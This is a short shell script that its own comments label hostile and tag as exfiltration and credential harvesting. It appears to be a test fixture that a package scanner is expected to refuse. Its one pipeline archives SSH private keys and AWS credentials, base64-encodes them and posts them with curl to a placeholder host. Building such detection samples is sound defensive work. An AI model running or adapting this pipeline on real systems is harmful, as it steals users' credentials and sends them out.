#!/bin/sh
# Hostile: packs keys and sends them away.
# Families: exfiltration, credential-harvesting, network. As a package: refused.
tar czf - /nonexistent-caisson/home/.ssh/id_rsa /nonexistent-caisson/home/.aws/credentials 2>/dev/null |
  base64 | curl -s --data-binary @- https://transfer.sh.example.invalid/keys
